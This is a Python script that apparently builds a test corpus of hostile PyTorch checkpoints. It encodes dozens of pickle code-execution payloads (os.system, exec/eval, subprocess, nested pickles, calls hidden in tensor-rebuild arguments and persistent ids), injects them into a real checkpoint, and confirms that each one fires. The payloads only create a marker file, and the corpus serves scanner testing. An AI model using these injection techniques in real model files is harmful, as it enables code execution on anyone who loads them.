#!/usr/bin/env python3
"""A corpus of malicious checkpoints in the spirit of the public collections (picklescan's
test data, fickling's bypasses, modelscan's samples, pickle_injector's injections into real
checkpoints), with payloads that only touch a marker file.

Every payload creates the file named by $SIMPOOL_HOSTILE_MARKER, by a shell command or by
Python code, through a different way in: GLOBAL / STACK_GLOBAL / INST / OBJ calls, getattr and import chains, functools.partial, operator.methodcaller,
nested pickles, payloads hidden in tensor-rebuild arguments, persistent ids, BUILD states
and in the OrderedDict of a state dict. Each is checked to be armed: Python's own
`pickle.loads` of the payload, run in a subprocess, must create the marker (payloads whose
module does not exist on this machine, such as `nt`, are checked in their posix spelling).

Each payload is written three ways: a PyTorch ZIP archive whose data.pkl is the payload,
a legacy (pre-1.6) torch.save stream, and the payload injected at the start of the data.pkl
of a real checkpoint made by torch (`Tests/Fixtures/checkpoints/dtypes.pt`), which then
unpickles its tensors as before.

    python3 Tools/make_hostile_corpus.py [OUT]   default: Tests/Fixtures/hostile/corpus

Standard library only. `Tests/CLITests/HostileCorpusTests.swift` runs every file
through the real binary: each must be refused with one line, and the marker never appear.
"""
import concurrent.futures
import io
import json
import os
import struct
import subprocess
import sys
import tempfile
import zipfile

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
REAL = os.path.join(ROOT, "Tests", "Fixtures", "checkpoints", "dtypes.pt")

SHELL = 'touch "$SIMPOOL_HOSTILE_MARKER"'
PYTHON = "open(__import__('os').environ['SIMPOOL_HOSTILE_MARKER'], 'w').close()"


# ------------------------------------------------------------- pickle opcodes ----

def unicode(text):
    data = text.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def global_(module, name):
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def stack_global(module, name):
    return unicode(module) + unicode(name) + b"\x93"


def call(callable_ops, *argument_ops):
    """callable(*arguments) by REDUCE; each argument is a sequence of opcodes."""
    return callable_ops + b"(" + b"".join(argument_ops) + b"tR"


def binbytes(data):
    return b"B" + struct.pack("<I", len(data)) + data


PROTO2 = b"\x80\x02"
PROTO4 = b"\x80\x04"


def payloads():
    """name → (payload opcodes leaving one value on the stack, protocol, portable spelling)."""
    sh, py = unicode(SHELL), unicode(PYTHON)
    inner_pickle = PROTO2 + call(global_("os", "system"), sh) + b"."
    result = {
        "os_system_global": (call(global_("os", "system"), sh), PROTO2),
        "posix_system_global": (call(global_("posix", "system"), sh), PROTO2),
        "nt_system_global": (call(global_("nt", "system"), sh), PROTO2, call(global_("posix", "system"), sh)),
        "os_system_stack_global": (call(stack_global("os", "system"), sh), PROTO4),
        "builtins_exec": (call(global_("builtins", "exec"), py), PROTO2),
        "builtins_eval": (call(global_("builtins", "eval"), py), PROTO2),
        "builtins_compile_exec": (call(global_("builtins", "exec"),
                                       call(global_("builtins", "compile"), py, unicode("<x>"), unicode("exec"))), PROTO2),
        "subprocess_popen_list": (call(global_("subprocess", "Popen"),
                                       b"(" + unicode("sh") + unicode("-c") + unicode(SHELL) + b"l"), PROTO2),
        "subprocess_getoutput": (call(global_("subprocess", "getoutput"), sh), PROTO2),
        "subprocess_check_output": (call(global_("subprocess", "check_output"),
                                         b"(" + unicode("sh") + unicode("-c") + unicode(SHELL) + b"l"), PROTO2),
        "getattr_import_chain": (call(call(global_("builtins", "getattr"),
                                           call(global_("builtins", "__import__"), unicode("os")), unicode("system")), sh), PROTO2),
        "importlib_import_module": (call(call(global_("builtins", "getattr"),
                                              call(global_("importlib", "import_module"), unicode("os")),
                                              unicode("system")), sh), PROTO2),
        "functools_partial": (global_("functools", "partial") + b"(" + global_("os", "system") + sh + b"tR)R", PROTO2),
        "operator_methodcaller": (call(call(global_("operator", "methodcaller"), unicode("system"), sh),
                                       call(global_("builtins", "__import__"), unicode("os"))), PROTO2),
        "operator_attrgetter": (call(call(call(global_("operator", "attrgetter"), unicode("system")),
                                          call(global_("builtins", "__import__"), unicode("os"))), sh), PROTO2),
        "nested_pickle_loads": (call(global_("pickle", "loads"), binbytes(inner_pickle)), PROTO2),
        "nested_pickle_underscore": (call(global_("_pickle", "loads"), binbytes(inner_pickle)), PROTO2),
        "runpy_run_code": (call(global_("runpy", "_run_code"), py, b"}"), PROTO2),
        "code_interactive": (call(call(global_("builtins", "getattr"), call(global_("code", "InteractiveInterpreter")),
                                       unicode("runsource")), py), PROTO2),
        "timeit_timer": (call(call(global_("builtins", "getattr"), call(global_("timeit", "Timer"), py),
                                   unicode("timeit")), b"K\x01"), PROTO2),
        "cprofile_run": (call(global_("cProfile", "run"), py), PROTO2),
        "pty_spawn": (call(global_("pty", "spawn"), b"(" + unicode("sh") + unicode("-c") + unicode(SHELL) + b"l"), PROTO2),
        "os_popen": (call(global_("os", "popen"), sh), PROTO2),
        "os_execvp_fork_free": (call(global_("os", "spawnlp"), b"K\x00", unicode("sh"), unicode("sh"), unicode("-c"), sh),
                                PROTO2),
        "inst_opcode": (b"(" + sh + b"ios\nsystem\n", PROTO2),
        "obj_opcode": (b"(" + global_("os", "system") + sh + b"o", PROTO2),
        "build_setstate_eval": (call(global_("builtins", "eval"), py) + b"N" + b"b", PROTO2),
        "memo_indirection": (global_("os", "system") + b"q\x07" + b"0" + b"h\x07" + b"(" + sh + b"tR", PROTO2),
        "dup_callable": (global_("os", "system") + b"2" + b"0" + b"(" + sh + b"tR", PROTO2),
        "tuple_wrapped_callable": (call(global_("os", "system"), sh) + b"\x85", PROTO2),
    }
    # Hidden where a loader looks for tensors.
    rebuild = global_("torch._utils", "_rebuild_tensor_v2")
    result["in_rebuild_hooks"] = (
        rebuild + b"(" + b"N" + b"K\x00" + b"(K\x01t" + b"(K\x01t" + b"\x89"
        + b"}" + unicode("h") + call(global_("os", "system"), sh) + b"s" + b"tR", PROTO2,
        b"(" + call(global_("os", "system"), sh) + b"t")
    result["in_rebuild_storage"] = (
        rebuild + b"(" + call(global_("os", "system"), sh) + b"K\x00(K\x01t(K\x01t\x89}tR", PROTO2,
        b"(" + call(global_("os", "system"), sh) + b"t")
    result["in_persistent_id"] = (
        b"(" + unicode("storage") + call(global_("os", "system"), sh) + unicode("0") + unicode("cpu") + b"K\x01tQ", PROTO2,
        b"(" + call(global_("os", "system"), sh) + b"t")
    result["in_ordered_dict"] = (
        global_("collections", "OrderedDict") + b")R" + b"(" + unicode("w") + call(global_("os", "system"), sh) + b"u", PROTO2)
    result["rebuild_from_type"] = (
        call(global_("torch._tensor", "_rebuild_from_type_v2"), global_("os", "system"), global_("builtins", "object"),
             b"(" + sh + b"t", b"}"), PROTO2,
        call(global_("os", "system"), sh))
    result["rebuild_parameter"] = (
        call(global_("torch._utils", "_rebuild_parameter"), call(global_("os", "system"), sh), b"\x89", b"}"), PROTO2,
        call(global_("os", "system"), sh))
    return result


# -------------------------------------------------------------- containers ----

def zip_archive(data_pkl, extra=()):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("archive/data.pkl", data_pkl)
        archive.writestr("archive/version", "3\n")
        archive.writestr("archive/byteorder", "little")
        for name, data in extra:
            archive.writestr(name, data)
    return buffer.getvalue()


def legacy(payload_pickle):
    """torch.save's legacy stream: magic number, protocol, system info, then the object."""
    import pickle
    head = pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)
    head += pickle.dumps(1001, protocol=2)
    head += pickle.dumps({"protocol_version": 1001, "little_endian": True,
                          "type_sizes": {"short": 2, "int": 4, "long": 4}}, protocol=2)
    return head + payload_pickle + pickle.dumps([], protocol=2)


def injected(payload_ops):
    """The payload run (and popped) first, then a real checkpoint's own data.pkl."""
    with zipfile.ZipFile(REAL) as archive:
        names = archive.namelist()
        prefix = names[0].split("/")[0]
        data = archive.read(f"{prefix}/data.pkl")
        others = [(name, archive.read(name)) for name in names if not name.endswith("/data.pkl")]
    assert data[:1] == b"\x80"
    body = data[2:]
    pickle = data[:2] + payload_ops + b"0" + body
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr(f"{prefix}/data.pkl", pickle)
        for name, content in others:
            archive.writestr(name, content)
    return buffer.getvalue(), pickle


# ---------------------------------------------------------------- arming ----

CHECK = r"""
import os, pickle, sys
class Loader(pickle.Unpickler):
    def persistent_load(self, pid):
        return None
try:
    Loader(open(sys.argv[1], "rb")).load()
except BaseException:
    pass
"""


def armed(pickle_bytes):
    """True when Python's pickle, given these bytes, creates the marker."""
    with tempfile.TemporaryDirectory() as folder:
        marker = os.path.join(folder, "marker")
        source = os.path.join(folder, "payload.pkl")
        with open(source, "wb") as f:
            f.write(pickle_bytes)
        env = dict(os.environ, SIMPOOL_HOSTILE_MARKER=marker)
        try:
            subprocess.run([sys.executable, "-c", CHECK, source], env=env, timeout=20,
                           stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        except subprocess.TimeoutExpired:
            pass
        return os.path.exists(marker)


def main():
    out = sys.argv[1] if len(sys.argv) > 1 else os.path.join(ROOT, "Tests", "Fixtures", "hostile", "corpus")
    os.makedirs(out, exist_ok=True)
    for name in os.listdir(out):
        os.remove(os.path.join(out, name))
    manifest = {}
    checks = {}
    for name, spec in payloads().items():
        ops, protocol = spec[0], spec[1]
        portable = spec[2] if len(spec) > 2 else ops
        pickle_bytes = protocol + ops + b"."
        real, injected_pickle = injected(ops)
        checks[name] = protocol + portable + b"."
        checks[name + " (injected)"] = protocol + portable + b"0" + injected_pickle[2 + len(ops) + 1:]
        files = {f"{name}.pt": zip_archive(pickle_bytes), f"{name}_legacy.pt": legacy(pickle_bytes),
                 f"{name}_injected.pt": real}
        for file, data in files.items():
            with open(os.path.join(out, file), "wb") as f:
                f.write(data)
            manifest[file] = {"payload": name, "bytes": len(data)}
    with concurrent.futures.ThreadPoolExecutor(max_workers=4) as pool:
        for name, ok in zip(checks, pool.map(armed, checks.values())):
            if not ok:
                raise SystemExit(f"{name}: payload does not reach the marker under Python's pickle")
    with open(os.path.join(out, "manifest.json"), "w") as f:
        json.dump({"marker_variable": "SIMPOOL_HOSTILE_MARKER", "files": manifest}, f, indent=1, sort_keys=True)
    print(f"{len(manifest)} files in {out}, every payload armed")


if __name__ == "__main__":
    main()
